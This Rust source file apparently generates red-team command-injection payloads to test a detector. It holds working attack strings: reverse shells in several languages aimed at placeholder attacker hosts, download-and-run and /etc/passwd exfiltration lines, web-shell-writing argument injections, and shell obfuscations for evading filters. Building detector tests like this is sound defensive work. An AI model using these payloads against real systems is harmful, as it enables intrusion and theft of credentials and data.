//! Red-team Unix command injection, written apart from the detectors (held out in spirit):
//! an injection point (a value closed by a separator, a substitution, a quote break-out, or
//! an argument smuggled into a command the application runs) × a command (recon, file read,
//! time probe, download-and-run, reverse shells in several languages) × shell obfuscation
//! (quotes and backslashes inside words, `$IFS`, brace expansion, globbing, variable slicing,
//! empty expansions, `rev`, base64/hex decoders piped into a shell) × a transport layer.

use crate::mutate::{join, transport_layer};
use crate::{Carrier, Family, Rng, Variant};

pub struct RedteamCmdiUnix;

const HOSTS: &[&str] = &["10.0.0.5", "198.51.100.23", "203.0.113.9", "attacker.example", "x.oast.example"];
const PORTS: &[&str] = &["4444", "1337", "9001", "53", "8080", "443"];
const FILES: &[&str] =
    &["/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ", "/root/.ssh/id_rsa", "/var/www/html/config.php", "/etc/issue"];
const PREFIXES: &[&str] = &["", "127.0.0.1", "8.8.8.8", "example.com", "test", "1", "report.pdf", "john", "localhost"];

/// A command with its arguments, as words (the obfuscator works word by word).
fn command(rng: &mut Rng, names: &mut Vec<&'static str>) -> Vec<String> {
    let host = *rng.pick(HOSTS);
    let port = *rng.pick(PORTS);
    let file = *rng.pick(FILES);
    let words: Vec<String> = match rng.below(26) {
        0 => vec!["id".into()],
        1 => vec!["whoami".into()],
        2 => vec!["uname".into(), rng.pick(&["-a", "-r", "-snr"]).to_string()],
        3 => vec![rng.pick(&["cat", "head", "tail", "more", "less", "nl", "tac", "od -c", "xxd", "strings"]).to_string(), file.into()],
        4 => vec!["ls".into(), rng.pick(&["-la", "-al /", "/var/www", "-R /home"]).to_string()],
        5 => {
            names.push("time-probe");
            vec!["sleep".into(), rng.range(3, 30).to_string()]
        }
        6 => {
            names.push("time-probe");
            vec!["ping".into(), "-c".into(), rng.range(5, 20).to_string(), "127.0.0.1".into()]
        }
        7 => vec!["curl".into(), format!("http://{host}/s.sh"), "|".into(), rng.pick(&["sh", "bash", "/bin/sh"]).to_string()],
        8 => vec![
            "wget".into(),
            format!("http://{host}/x"),
            "-O".into(),
            "/tmp/x;".into(),
            "chmod".into(),
            "+x".into(),
            "/tmp/x;".into(),
            "/tmp/x".into(),
        ],
        9 => {
            names.push("reverse-shell");
            vec!["nc".into(), "-e".into(), "/bin/sh".into(), host.into(), port.into()]
        }
        10 => {
            names.push("reverse-shell");
            vec!["bash".into(), "-i".into(), ">&".into(), format!("/dev/tcp/{host}/{port}"), "0>&1".into()]
        }
        11 => {
            names.push("reverse-shell");
            vec![
                rng.pick(&["python", "python3"]).to_string(),
                "-c".into(),
                format!("'import socket,os,pty;s=socket.socket();s.connect((\"{host}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
            ]
        }
        12 => {
            names.push("reverse-shell");
            vec!["perl".into(), "-e".into(), format!("'use Socket;$i=\"{host}\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'")]
        }
        13 => {
            names.push("reverse-shell");
            vec!["php".into(), "-r".into(), format!("'$s=fsockopen(\"{host}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");'")]
        }
        14 => {
            names.push("reverse-shell");
            vec![
                "ruby".into(),
                "-rsocket".into(),
                "-e".into(),
                format!("'c=TCPSocket.new(\"{host}\",{port});while(cmd=c.gets);IO.popen(cmd,\"r\"){{|io|c.print io.read}}end'"),
            ]
        }
        15 => {
            names.push("reverse-shell");
            vec![
                "rm".into(),
                "/tmp/f;mkfifo".into(),
                "/tmp/f;cat".into(),
                "/tmp/f|/bin/sh".into(),
                "-i".into(),
                "2>&1|nc".into(),
                host.into(),
                format!("{port} >/tmp/f"),
            ]
        }
        16 => vec!["/bin/sh".into(), "-c".into(), rng.pick(&["id", "'cat /etc/passwd'", "\"uname -a\"", "whoami"]).to_string()],
        17 => vec![
            "echo".into(),
            rng.pick(&["d2hvYW1p", "aWQ=", "Y2F0IC9ldGMvcGFzc3dk"]).to_string(),
            "|".into(),
            "base64".into(),
            "-d".into(),
            "|".into(),
            rng.pick(&["sh", "bash"]).to_string(),
        ],
        18 => vec!["nslookup".into(), format!("`whoami`.{host}")],
        19 => vec!["awk".into(), "'BEGIN{system(\"id\")}'".into()],
        20 => vec!["socat".into(), format!("tcp:{host}:{port}"), "exec:/bin/sh".into()],
        21 => vec!["env".into()],
        22 => vec!["cat".into(), "/etc/passwd".into(), "|".into(), "curl".into(), "-d".into(), "@-".into(), format!("http://{host}/")],
        23 => vec!["find".into(), "/".into(), "-perm".into(), "-4000".into()],
        24 => vec!["ifconfig".into()],
        _ => vec!["netstat".into(), "-an".into()],
    };
    words
}

/// Obfuscates one command word the way shells still read it.
fn obfuscate_word(rng: &mut Rng, word: &str, style: usize) -> String {
    if word.len() < 2 || !word.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'/' || b == b'.') {
        return word.to_string();
    }
    let cut = rng.range(1, word.len() - 1);
    let (a, b) = word.split_at(cut);
    match style {
        0 => format!("{a}'{b}'"),
        1 => format!("{a}\"\"{b}"),
        2 => format!("{a}\\{b}"),
        3 => format!("{a}$@{b}"),
        4 => format!("{a}${{u}}{b}"),
        5 => format!("{a}$(){b}"),
        _ => format!("{a}``{b}"),
    }
}

/// Joins the command's words, with one obfuscation technique applied (or none).
fn render(rng: &mut Rng, words: &[String], names: &mut Vec<&'static str>) -> String {
    let joined = words.join(" ");
    match rng.below(12) {
        0..=2 => joined,
        3 => {
            names.push("quote-split");
            let style = rng.below(7);
            words.iter().map(|w| obfuscate_word(rng, w, style)).collect::<Vec<_>>().join(" ")
        }
        4 => {
            names.push("ifs");
            // A bare `$IFS` before a word would name another variable (`$IFSx`).
            let sep = *rng.pick(&["${IFS}", "$IFS$9", "${IFS%??}", "$IFS$()", "%09", "\t"]);
            words.join(sep)
        }
        5 if words.len() >= 2 && !joined.contains(['|', '\'', ';', '>']) => {
            names.push("brace-expansion");
            // Each word of the brace list is one shell word: arguments with blanks split.
            let items: Vec<&str> = words.iter().flat_map(|w| w.split(' ')).collect();
            format!("{{{}}}", items.join(","))
        }
        6 => {
            names.push("glob");
            words
                .iter()
                .map(|w| match w.as_str() {
                    "/etc/passwd" => rng.pick(&["/e??/p?ss??", "/etc/pa*wd", "/etc/[p]asswd", "/???/??ss??"]).to_string(),
                    "/bin/sh" => rng.pick(&["/???/?h", "/bin/s?", "/b*/sh"]).to_string(),
                    "cat" => rng.pick(&["/???/c?t", "/bin/ca*", "/usr/bin/[c]at"]).to_string(),
                    "id" | "whoami" => format!("/usr/bin/{}", w.replacen(&w[..1], "?", 1)),
                    _ => w.clone(),
                })
                .collect::<Vec<_>>()
                .join(" ")
        }
        7 => {
            names.push("env-slice");
            let slash = *rng.pick(&["${PATH:0:1}", "${HOME:0:1}", "${PWD:0:1}"]);
            joined.replace('/', slash)
        }
        8 if !joined.contains('\'') => {
            names.push("rev");
            let reversed: String = joined.chars().rev().collect();
            format!("$(echo '{reversed}'|rev)")
        }
        9 => {
            names.push("base64-pipe");
            let encoded = crate::mutate::base64(joined.as_bytes());
            match rng.below(3) {
                0 => format!("echo {encoded}|base64 -d|sh"),
                1 => format!("bash<<<$(base64 -d<<<{encoded})"),
                _ => format!("echo${{IFS}}{encoded}|base64${{IFS}}--decode|bash"),
            }
        }
        10 => {
            names.push("hex-decode");
            let hex: String = joined.bytes().map(|b| format!("\\x{b:02x}")).collect();
            match rng.below(3) {
                0 => format!("$(printf '{hex}')"),
                1 => format!("$'{hex}'"),
                _ => format!("echo -e '{hex}'|sh"),
            }
        }
        _ => {
            names.push("var-assembly");
            let first = &words[0];
            if first.len() >= 2 {
                let (a, b) = first.split_at(first.len() / 2);
                format!("a={a};b={b};$a$b {}", words[1..].join(" "))
            } else {
                joined
            }
        }
    }
}

/// Wraps the command into a value at an injection point.
fn inject(rng: &mut Rng, cmd: &str, names: &mut Vec<&'static str>) -> String {
    let prefix = *rng.pick(PREFIXES);
    match rng.below(12) {
        0 => format!("{prefix};{cmd}"),
        1 => format!("{prefix}; {cmd};"),
        2 => format!("{prefix}|{cmd}"),
        3 => format!("{prefix}||{cmd}"),
        4 => format!("{prefix}&{cmd}&"),
        5 => format!("{prefix}&&{cmd}"),
        6 => {
            names.push("newline");
            format!("{prefix}{}{cmd}", rng.pick(&["\n", "\r\n", "%0a", "%0A", "%0d%0a"]))
        }
        7 => {
            names.push("substitution");
            format!("{prefix}$({cmd})")
        }
        8 => {
            names.push("backticks");
            format!("{prefix}`{cmd}`")
        }
        9 => {
            names.push("quote-breakout");
            let q = *rng.pick(&["'", "\""]);
            format!("{prefix}{q};{cmd};{q}")
        }
        10 => {
            names.push("quote-breakout");
            format!("{prefix}' || {cmd} || '")
        }
        _ => {
            names.push("subshell");
            format!("{prefix}{}({cmd})", rng.pick(&[";", "|", "&&"]))
        }
    }
}

/// The value is an argument the application hands to a command it runs (curl, wget, tar,
/// find, ssh, sendmail, zip...): an option the attacker smuggles in does the harm.
fn argument_injection(rng: &mut Rng) -> String {
    let host = *rng.pick(HOSTS);
    match rng.below(10) {
        0 => format!("--output=/var/www/html/{} http://{host}/s.txt", rng.pick(&["s.php", "shell.php", "x.jsp"])),
        1 => format!("-o /var/www/html/s.php http://{host}/s.txt"),
        2 => format!("--post-file=/etc/passwd http://{host}/"),
        3 => format!("-O /var/www/html/c.php http://{host}/c.txt"),
        4 => "--checkpoint=1 --checkpoint-action=exec=sh shell.sh".to_string(),
        5 => "--use-compress-program=sh -c id".to_string(),
        6 => format!("x -exec {} \\;", rng.pick(&["id", "sh -c id", "/bin/sh", "cat /etc/passwd"])),
        7 => format!("-oProxyCommand=\"nc {host} 4444 -e /bin/sh\""),
        8 => format!("-X/var/www/html/s.php -OQueueDirectory=/tmp attacker@{host}"),
        _ => "-TT --unzip-command=\"sh -c id\"".to_string(),
    }
}

impl Family for RedteamCmdiUnix {
    fn name(&self) -> &'static str {
        "redteam-cmdi-unix"
    }

    fn detector(&self) -> &'static str {
        "command-injection"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut names = Vec::new();
        let text = if rng.chance(0.12) {
            names.push("argument-injection");
            argument_injection(rng)
        } else {
            let words = command(rng, &mut names);
            let cmd = render(rng, &words, &mut names);
            inject(rng, &cmd, &mut names)
        };
        let (payload, layer) = transport_layer(rng, &text);
        names.push(layer);
        Variant { family: self.name(), mutation: join(&names), payload, carrier: Carrier::Value }
    }
}
